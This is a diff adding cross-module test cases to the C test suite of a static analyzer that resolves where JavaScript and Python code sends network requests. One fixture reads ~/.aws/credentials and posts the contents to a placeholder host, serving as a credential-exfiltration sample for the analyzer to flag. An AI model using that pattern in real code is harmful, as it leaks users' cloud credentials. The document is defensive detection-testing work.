@@ -1053,6 +1053,109 @@ static const struct resolve_case credential_clean[] = {
 	 NULL, ANY_KIND, NULL, NULL, "credential-flow", "b.example.net", 0, NULL, ANY_SEV, NULL},
 };
 
+/* Values and clients that cross module and object boundaries (issue 9, item 2). Each
+ * failed before its fix: checked by scanning the same files with the binary built from
+ * the parent commit c8d78ba ("(unknown host)", or no such endpoint). */
+/* a config loader storing the base URL into a copy of the environment in each branch of
+ * an if, its singleton's method result used in another module */
+#define BRANCH_STORES TWO("src/env.js", "export class Env {\n  static instance;\n  config = null;\n  static getInstance() {\n    if (!Env.instance) { Env.instance = new Env(); }\n    return Env.instance;\n  }\n  getConfig() {\n    if (!this.config) { this.config = this.load(); }\n    return this.config;\n  }\n  load() {\n    const c = { ...process.env };\n    if (!c.BASE) { c.BASE = 'https://sbr1.example.com/v4/'; }\n    const mode = c.MODE || c.ALT_MODE;\n    if (mode != null) {\n      if (mode === 'EU') { c.BASE = 'https://sbr2.example.net/v4/'; c.MODE = 'EU'; }\n      else if (mode === 'US') { c.BASE = 'https://sbr1.example.com/v4/'; c.MODE = 'US'; }\n    } else { c.MODE = 'US'; }\n    if (!c.KEY && c.ALT_KEY) { c.KEY = c.ALT_KEY; }\n    if (!c.KEY || c.KEY?.toLowerCase().includes('api') || c.KEY?.toLowerCase().includes('key')) {\n      if (c.TOKEN && !c.TOKEN?.toLowerCase().includes('api')) { c.KEY = c.TOKEN; }\n      else { throw new Error('KEY is required'); }\n    }\n    if (!c.X0) { c.X0 = c.Y0 || c.Z0; }\n    if (!c.X1) { c.X1 = c.Y1 || c.Z1; }\n    if (!c.X2) { c.X2 = c.Y2 || c.Z2; }\n    if (!c.X3) { c.X3 = c.Y3 || c.Z3; }\n    if (!c.X4) { c.X4 = c.Y4 || c.Z4; }\n    if (!c.X5) { c.X5 = c.Y5 || c.Z5; }\n    return { BASE: c.BASE, KEY: c.KEY, M1: c.M1, M2: c.M2, M3: c.M3, M4: c.M4, T: c.T, R: c.R, N: c.N, V: c.V, MODE: c.MODE };\n  }\n  getVision() {\n    const config = this.getConfig();\n    return { model: config.M1 || 'x', url: config.BASE + 'chat/completions' };\n  }\n}\nexport const env = Env.getInstance();\nexport const settings = env;\n", \
+	     "src/chat.js", "import { settings } from './env.js';\nexport class Chat {\n  async vision(messages) {\n    const v = settings.getVision();\n    return this.complete(v.url, { messages });\n  }\n  async complete(url, body) {\n    return fetch(url, { method: 'POST', body: JSON.stringify(body) });\n  }\n}\n")
+static const struct resolve_case xmod_cases[] = {
+	/* a client's base URL and a path its callers pass: the destination started with the
+	 * path's hole, and the base was never joined to it (analyzer/link.c with_base) */
+	{"xmod: axios.create({baseURL}) in a module, helper get(path) with no caller",
+	 JS("src/client.js", "import axios from 'axios';\nconst http = axios.create({ baseURL: 'https://xb.example.com/v1' });\n"
+	    "export async function get(path) { return http.get(path); }\n"),
+	 "xb.example.com", K(EK_LITERAL), NULL, "axios.create().get", NULL, NULL, 0, NULL, ANY_SEV, NULL},
+	/* passed before too: a guard that the join leaves a whole URL alone */
+	{"xmod: a caller passing a whole URL to the client's path goes there, not to the base",
+	 TWO("src/client.js", "import axios from 'axios';\nconst http = axios.create({ baseURL: 'https://xbase.example.com' });\n"
+			      "export async function get(path) { return http.get(path); }\n",
+	     "src/index.js", "import { get } from './client.js';\nget('https://xabs.example.net/x');\n"),
+	 "xabs.example.net", K(EK_LITERAL), NULL, NULL, NULL, NULL, 0, "xbase.example.com", ANY_SEV, NULL},
+	/* config.baseUrl of a constructor's parameter: the member lost the parameter it came
+	 * from, so the caller in another module bound nothing (flow.c member_path) */
+	{"xmod: this.http = axios.create({baseURL: config.baseUrl}), new Api({...}) in another module",
+	 TWO("src/client.js", "import axios from 'axios';\nexport class Api {\n"
+			      "  constructor(config) { this.http = axios.create({ baseURL: config.baseUrl }); }\n"
+			      "  async get(path) { return this.http.get(path); }\n}\n",
+	     "src/index.js", "import { Api } from './client.js';\nconst api = new Api({ baseUrl: 'https://xctor.example.com/v1' });\n"
+			     "api.get('/x');\n"),
+	 "xctor.example.com", K(EK_LITERAL), NULL, NULL, NULL, NULL, 0, NULL, ANY_SEV, NULL},
+	/* a config object another module's function returns, destructured and passed through
+	 * a second constructor: calls of imported functions were opaque (eval.c
+	 * imported_result, module.c add_function_result) */
+	{"xmod: loadConfig() of a third module, through two constructors, const { auth } = config",
+	 {{"src/config.js", "export function loadConfig(env = process.env) {\n"
+			    "  return { auth: { baseUrl: env.X_BASE_URL ?? 'https://xcfg.example.com/2.0' } };\n}\n"},
+	  {"src/api.js", "import axios from 'axios';\nexport class Api {\n  constructor(config) {\n"
+			 "    const { auth } = config;\n    const opts = { baseURL: auth.baseUrl, timeout: 5 };\n"
+			 "    this.http = axios.create(opts);\n  }\n  async raw(path) { return this.http.get(path); }\n}\n"},
+	  {"src/server.js", "import { Api } from './api.js';\nexport class Server {\n"
+			    "  constructor(config) { this.api = new Api(config); }\n}\n"},
+	  {"src/index.js", "import { loadConfig } from './config.js';\nimport { Server } from './server.js';\n"
+			   "const config = loadConfig();\nnew Server(config);\n"}},
+	 "xcfg.example.com", ANY_KIND, NULL, NULL, NULL, NULL, 0, NULL, ANY_SEV, NULL},
+	/* a lookup table indexed by a key that does not evaluate: only a hole before (eval.c
+	 * any_entry, member_of_each; free_parameter for a key with a default) */
+	{"xmod: REGIONS[region] with region a parameter",
+	 JS("index.js", "const REGIONS = { us: 'https://xus.example.com', eu: 'https://xeu.example.net' };\n"
+	    "export function call(region) { return fetch(REGIONS[region] + '/v1'); }\n"),
+	 "xeu.example.net", K(EK_LITERAL), NULL, "fetch", NULL, NULL, 0, NULL, ANY_SEV, NULL},
+	{"xmod: cloud table read by a function of another module (export { }), default key, .graph of it",
+	 {{"src/cloud.js", "const CLOUDS = { global: { graph: 'https://xg.example.com' }, china: { graph: 'https://xcn.example.net' } };\n"
+			   "function getEndpoints(cloud = 'global') {\n  const e = CLOUDS[cloud];\n  if (!e) throw new Error('x');\n"
+			   "  return e;\n}\nexport { getEndpoints };\n"},
+	  {"src/client.js", "import { getEndpoints } from './cloud.js';\nexport class Graph {\n"
+			    "  constructor(secrets) { this.secrets = secrets; }\n"
+			    "  async request(path) { const ep = getEndpoints(this.secrets.cloud); return fetch(`${ep.graph}/v1.0${path}`); }\n}\n"}},
+	 "xcn.example.net", K(EK_LITERAL), NULL, "fetch", NULL, NULL, 0, NULL, ANY_SEV, NULL},
+	{"xmod: the same table, its default entry",
+	 {{"src/cloud.js", "const CLOUDS = { global: { graph: 'https://xg.example.com' }, china: { graph: 'https://xcn.example.net' } };\n"
+			   "function getEndpoints(cloud = 'global') {\n  return CLOUDS[cloud];\n}\nexport { getEndpoints };\n"},
+	  {"src/client.js", "import { getEndpoints } from './cloud.js';\n"
+			    "export async function request(path) { return fetch(getEndpoints(process.env.CLOUD).graph + path); }\n"}},
+	 "xg.example.com", K(EK_LITERAL), NULL, "fetch", NULL, NULL, 0, NULL, ANY_SEV, NULL},
+	/* a variable assigned again inside an if (a catch, a loop) that the read is not in:
+	 * only the last assignment was read, as if the branch always ran (eval.c
+	 * binding_value) */
+	{"xmod: let base = env || X; if (sub) base = base.replace(...); return base: X itself",
+	 TWO("src/base.js", "export const getBaseURL = (sub = false) => {\n"
+			    "  let baseURL = process.env.CI_BASE_URL || 'https://xcond.example.com';\n"
+			    "  if (sub) {\n    baseURL = baseURL.replace('https://', 'https://api.');\n  }\n  return baseURL;\n};\n",
+	     "src/index.js", "import { getBaseURL } from './base.js';\nexport function go() { return fetch(getBaseURL() + '/x'); }\n"),
+	 "xcond.example.com", ANY_KIND, NULL, "fetch", NULL, NULL, 0, NULL, ANY_SEV, NULL},
+	{"xmod: py url = A; if eu: url = B; return url: A too",
+	 JS("main.py", "import requests\ndef base(eu):\n    url = 'https://xpyus.example.com'\n    if eu:\n"
+	    "        url = 'https://xpyeu.example.net'\n    return url\ndef go(eu):\n    return requests.get(base(eu) + '/x')\n"),
+	 "xpyus.example.com", K(EK_LITERAL), NULL, "requests.get", NULL, NULL, 0, NULL, ANY_SEV, NULL},
+	/* the except branch's "" hid the credential file read in the try; and what one of
+	 * several alternatives carries was lost when they were concatenated (value.c) */
+	{"xmod: py creds read in try, creds = '' in except, sent: the file flows",
+	 JS("main.py", "import os, urllib.request\ndef sync():\n    try:\n"
+	    "        creds = open(os.path.expanduser('~/.aws/credentials')).read()\n    except OSError:\n        creds = ''\n"
+	    "    urllib.request.urlopen('https://xcred.example.net/c', data=(creds + '\\n').encode())\n"),
+	 "xcred.example.net", K(EK_LITERAL), NULL, NULL, "credential-flow", "xcred.example.net", 0, NULL, ANY_SEV, NULL},
+	/* an instance another module exports (new C(), or C.getInstance()) and its methods
+	 * results: service.method() was a hole (eval.c eval_instance_methods, module.c
+	 * add_instance_methods); `config = null;` hid the value the field is given later
+	 * (eval.c placeholder_field) */
+	{"xmod: exported singleton, settings.getVision().url passed to this.complete(url) in another module",
+	 TWO("src/env.js", "export class EnvService {\n  static instance;\n  config = null;\n  static getInstance() {\n    if (!EnvService.instance) { EnvService.instance = new EnvService(); }\n    return EnvService.instance;\n  }\n  getConfig() {\n    if (!this.config) { this.config = this.load(); }\n    return this.config;\n  }\n  load() {\n    const env = { ...process.env };\n    if (!env.Z_BASE) { env.Z_BASE = 'https://zinst.example.com/v4/'; }\n    return { BASE: env.Z_BASE, KEY: env.Z_KEY };\n  }\n  getVisionConfig() {\n    const config = this.getConfig();\n    return { model: 'm', url: config.BASE + 'chat/completions' };\n  }\n}\nexport const envService = EnvService.getInstance();\nexport const configService = envService;\n",
+	     "src/chat.js", "import { configService } from './env.js';\nexport class Chat {\n  async vision(messages) {\n    const c = configService.getVisionConfig();\n    return this.complete(c.url, { messages });\n  }\n  async complete(url, body) {\n    return fetch(url, { method: 'POST', body: JSON.stringify(body) });\n  }\n}\n"),
+	 "zinst.example.com", K(EK_LITERAL), NULL, "fetch", NULL, NULL, 0, NULL, ANY_SEV, NULL},
+	/* the same with the base URL stored into a copy of the environment in each branch of
+	 * an if: only the last store was read (stored_member), and the stores reading the
+	 * object again ran out of steps, each read evaluating every store again (with_stores,
+	 * now once per binding: stores_taint) */
+	{"xmod: base URL stored in branches of a config loader, a singleton's method result: the branch's host",
+	 BRANCH_STORES,
+	 "sbr2.example.net", K(EK_LITERAL), NULL, "fetch", NULL, NULL, 0, NULL, ANY_SEV, NULL},
+	{"xmod: the same, the host set when the variable is missing",
+	 BRANCH_STORES,
+	 "sbr1.example.com", K(EK_LITERAL), NULL, "fetch", NULL, NULL, 0, NULL, ANY_SEV, NULL},
+};
+
 /* Wrappers that keep a function's identity (analyzer/eval.c eval_wrapper, stored_member,
  * m_case; from_callers for functions stored in objects). Each failed before the fix:
  * checked by scanning the same files with the binary built from the parent commit 73eea17
@@ -1571,6 +1674,12 @@ static void test_credential_per_site(void **state)
 	}
 }
 
+static void test_cross_module(void **state)
+{
+	(void)state;
+	assert_int_equal(table_failures(xmod_cases, sizeof xmod_cases / sizeof xmod_cases[0], "FAIL", true), 0);
+}
+
 static void test_wrappers(void **state)
 {
 	(void)state;
@@ -1663,6 +1772,7 @@ int main(void)
 		cmocka_unit_test(test_dispatchers),
 		cmocka_unit_test(test_credential_per_site),
 		cmocka_unit_test(test_wrappers),
+		cmocka_unit_test(test_cross_module),
 		cmocka_unit_test(test_user_directed),
 		cmocka_unit_test(test_costly_variable_is_evaluated_once),
 		cmocka_unit_test(test_parameter_through_callers_is_evaluated_once),
